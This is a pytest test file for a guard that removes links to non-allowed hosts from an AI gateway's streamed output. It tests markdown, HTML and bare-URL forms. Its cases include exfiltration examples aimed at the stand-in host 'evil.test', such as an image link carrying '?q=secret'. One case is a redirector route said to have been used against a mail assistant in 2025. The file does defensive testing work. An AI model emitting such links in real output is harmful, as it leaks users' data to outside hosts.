"""Links to hosts that nobody allowed: found on every surface, the same however a text is cut, and gone afterwards."""

from __future__ import annotations

import os
import re
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.core.verdict import Bundle, CallFacts, DetectorSpec, Match, RuleSpec, Step, When
from gateway.guards.detectors.url_egress import REMOVED, UrlEgressDetector, build, shown
from gateway.guards.engine import GuardEngine
from gateway.guards.links.sighting import MAX_URL
from gateway.plugin.testing import check_piece

LONG = os.environ.get("WEIGHBRIDGE_SOAK") == "1"
HOSTS = ["ok.example", "*.ok.example", "teams.example"]
CHANNEL = (0, "text")
ATOMS = [
    *("[", "]", "(", ")", "![", "](", "]: ", "<", ">", "<img src=", '<a href="', "'", '"', "https://", "http://"),
    *("evil.test", "ok.example", "/x", "?u=", "www.", "//", "data:text/html,", "&#58;", "%3A%2F%2F", "@", "\\", "url("),
    *("style=", "alt='b c' ", "srcset=", " ", "\n", "a", "word ", "ht", "tp", "://", "s:", "=", "!", ".", ","),
    *("content='0;url=", "javascript:", "&colon;", "foo:", "[x]", "\t", "é", "a" * 60, "b" * 30 + " "),
]
SOUP = st.lists(st.sampled_from(ATOMS), max_size=14).map("".join)
OPTIONS: list[dict[str, Any]] = [
    {},
    {"redirectors": "allow"},
    *({"surfaces": [surface]} for surface in ("md_image", "md_link", "md_reference", "html", "bare_url")),
]


def spec(**options: Any) -> DetectorSpec:
    return DetectorSpec(name="links", use="url_egress", options={"allow": {"type": "host", "values": HOSTS}, **options})


def detector(**options: Any) -> UrlEgressDetector:
    return build(spec(**options))


def engine(**options: Any) -> GuardEngine:
    rule = RuleSpec(
        id="exfil",
        match=Match(),
        when=When(op="detector", name="links"),
        steps=(Step(action="rewrite", rewrite="text_only"),),
        mode="enforce",
    )
    return GuardEngine(Bundle(revision="0" * 12, detectors=(spec(**options),), rules=(rule,)), lambda: 0)


ENGINE = engine()


def streamed(pieces: list[str], guards: GuardEngine = ENGINE) -> list[str]:
    screen = guards.plan(FACTS).stream_screen()
    return [*[screen.feed(CHANNEL, piece) for piece in pieces], screen.finish(CHANNEL)]


def rewritten(text: str, guards: GuardEngine = ENGINE) -> str:
    return "".join(streamed([text], guards))


FACTS = CallFacts()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("see ![alt text](https://evil.test/?q=secret) now", "see alt text now"),
        ("see [the docs](https://evil.test/a).", "see the docs."),
        ("see [the docs](https://ok.example/a).", "see [the docs](https://ok.example/a)."),
        ("[![alt](https://evil.test/1)](https://evil.test/2)", "alt"),
        ("![](https://evil.test)", ""),
        ("[https://evil.test](https://evil.test)", REMOVED),
        ("[a](//evil.test) b", "a b"),
        ("[a](javascript:x) b", "a b"),
        ("[a](h\\ttps://evil.test) b", "[a](h\\ttps (link removed)) b"),
        ("[a](https&#58;//evil.test) b", "a b"),
        (f"[{'long ' * 12}](https://evil.test) b", f"[{'long ' * 12}] b"),
        ("text\n\n[a]: https://evil.test/x\nmore", "text\n\n\nmore"),
        ("go to https://evil.test/a?b.", f"go to {REMOVED}."),
        ("go to www.evil.test, now", f"go to {REMOVED}, now"),
        ("<https://evil.test/x> a", f"{REMOVED} a"),
        ("<img alt='a b' src=https://evil.test/x> c", "a b c"),
        ("<a href='https://evil.test'>a</a>", "a</a>"),
        ("odd://evil.test/x", f"odd {REMOVED}"),
        ("https://ok.example@evil.test/", REMOVED),
        ("https://ok.example\\@evil.test/", REMOVED),
        ("http://2130706433/x", REMOVED),
        ("https://оk.example/x", REMOVED),
        ("https://ok.example./x https://a.ok.example", "https://ok.example./x https://a.ok.example"),
        ("nothing [1] to (see) here: 3 < 4, a[0](b)", "nothing [1] to (see) here: 3 < 4, a[0](b)"),
    ],
)
def test_text_only(text: str, left: str) -> None:
    assert rewritten(text) == left
    assert "".join(streamed(list(text))) == left


def test_a_reference_through_a_redirector_of_an_allowed_host() -> None:
    """The way out of a mail assistant that was found in 2025: no inline link, no host outside the list."""
    text = (
        "Here is your summary.\n\n![chart][c]\n\n"
        "[c]: https://teams.example/urlp/v1/url/content?url=https%3A%2F%2Fevil.test%2F%3Fd%3Dsecret&v=1\n"
    )
    assert [(each.kind, each.start) for each in detector().find(text) if each.kind.startswith("md_")] == [
        ("md_reference/redirector", text.index("[c]:"))
    ]
    assert rewritten(text) == "Here is your summary.\n\n![chart][c]\n\n\n"
    assert "".join(streamed(list(text))) == rewritten(text)
    assert rewritten(text, engine(redirectors="allow")) == text


@pytest.mark.parametrize(
    ("surface", "text"),
    [
        ("md_image", "![a](https://evil.test)"),
        ("md_link", "[a](https://evil.test)"),
        ("md_reference", "[a]: https://evil.test"),
        ("html", "<img src=https://evil.test>"),
        ("html", "<style>a { background: url(https://evil.test) }</style>"),
        ("bare_url", "https://evil.test"),
        ("bare_url", "<https://evil.test>"),
        ("md_link", "<https://evil.test>"),
    ],
)
def test_each_surface_can_be_looked_at_alone(surface: str, text: str) -> None:
    found = detector(surfaces=[surface]).find(text)
    assert {each.kind for each in found} == {surface}
    others = {"md_image", "md_link", "md_reference", "html", "bare_url"} - {surface, "bare_url"}
    if not text.startswith("<http"):
        assert detector(surfaces=sorted(others)).find(text) == []


def test_a_long_text_tells_no_link_from_an_image() -> None:
    text = f"![{'a' * 60}](https://evil.test)"
    assert [each.kind for each in detector(surfaces=["md_image"]).find(text)] == ["md_image"]


def test_the_kind_says_what_is_wrong() -> None:
    found = [each.kind for each in detector(surfaces=["md_link"]).find("[a](https://evil.test) [a](data:x,y)")]
    assert found == ["md_link", "md_link/scheme"]
    assert detector(surfaces=["md_link"]).find("[a](https://tearns.example)")[0].kind == "md_link/lookalike"
    assert detector(surfaces=["md_link"], lookalikes="allow").find("[a](https://tearns.example)") == []


def test_addresses_in_an_allowed_url_are_its_own_business_where_the_policy_says_so() -> None:
    lax = detector(redirectors="allow")
    assert lax.find("https://ok.example/?u=https://evil.test/") == []
    assert lax.find("www.ok.example/?u=https://evil.test/") == []
    assert lax.find("[a](https://ok.example/?u=https://evil.test/)") == []
    assert lax.find("x=https://evil.test/") != []
    assert lax.find("https://ok.example/ https://evil.test/") != []
    assert lax.find("https://ok.example/" + "a" * (2 * MAX_URL) + "https://evil.test/") != []


@pytest.mark.parametrize("options", OPTIONS, ids=lambda options: str(options or "all"))
@settings(max_examples=1_000 if LONG else 40, deadline=None)
@given(text=SOUP)
def test_the_law_of_pieces(options: dict[str, Any], text: str) -> None:
    check_piece(detector(**options), [text])


@settings(max_examples=3_000 if LONG else 80, deadline=None)
@given(text=SOUP, data=st.data())
def test_a_stream_is_a_prefix_of_the_rewritten_whole(text: str, data: st.DataObject) -> None:
    whole = rewritten(text)
    size = data.draw(st.integers(1, 9))
    pieces = streamed([text[at : at + size] for at in range(0, len(text), size)])
    assert "".join(pieces) == whole
    assert "".join(streamed(list(text))) == whole


LEADS = re.compile(r"(?:[/\\]{2}|www\.|:)(?![/\\])[^\s/?#\\]*\w")


@settings(max_examples=5_000 if LONG else 150, deadline=None)
@given(text=SOUP)
def test_what_is_left_leads_nowhere(text: str) -> None:
    left = rewritten(text)
    found = [left[each.start : each.end] for each in detector().find(left)]
    # `](//` or `<as:` may be made of what stood on both sides of what was taken out; nothing is behind it.
    assert not [each for each in found if LEADS.search(each)], left


def test_prose_is_hardly_held() -> None:
    prose = (
        "As Smith [2020] and others (see the appendix [A, p. 3]) wrote: the data was fine, with a few <odd> signs; "
        "what we had hoped for, namely 3 < 4 and f(x) = y[0], did hold. Her notes [on the second trial, of which the "
        "records are said to be lost since that winter] were found: nothing else."
    )
    screen = ENGINE.plan(FACTS).stream_screen()
    held = []
    for number, char in enumerate(prose, start=1):
        screen.feed(CHANNEL, char)
        held.append(number - screen.released)
    assert max(held) <= 64
    plain = "The quick brown fox jumped over the lazy dog and what then happened was known to nobody at all."
    screen = ENGINE.plan(FACTS).stream_screen()
    sizes = []
    for number, char in enumerate(plain, start=1):
        screen.feed(CHANNEL, char)
        sizes.append(number - screen.released)
    assert sum(sizes) / len(sizes) < 2


@pytest.mark.parametrize(
    "unit",
    [
        *(
            "[",
            "![",
            "<",
            "<a ",
            "](",
            "[a](",
            "http://",
            "http://(",
            "https://ok.example/?u=",
            "src='",
            "url(",
            "//a.",
        ),
        *("&#58;//", "[]:", "<a b='", "data:", "www.", "[x](<", "](()", '<a style="url(', "[x](//e 't"),
    ],
)
def test_hostile_text_takes_linear_time(unit: str) -> None:
    def cost(size: int) -> float:
        text = (unit * size)[:size]
        began = time.process_time()
        detector().find(text)
        detector().pending(text, 0)
        return time.process_time() - began

    # Quadratic work would be 16 times as much.
    small, large = min(cost(6_000) for _ in range(3)), cost(24_000)
    assert large < 10 * small + 0.1


def test_words_of_links() -> None:
    assert shown("  a\n b ") == "a b"
    assert shown("a [b] <c> `d`") == "a b c d"
    assert shown("see https&#58;//evil.test") == f"see {REMOVED}"
    assert shown("!") == ""
    assert len(shown("a" * 500)) < 300
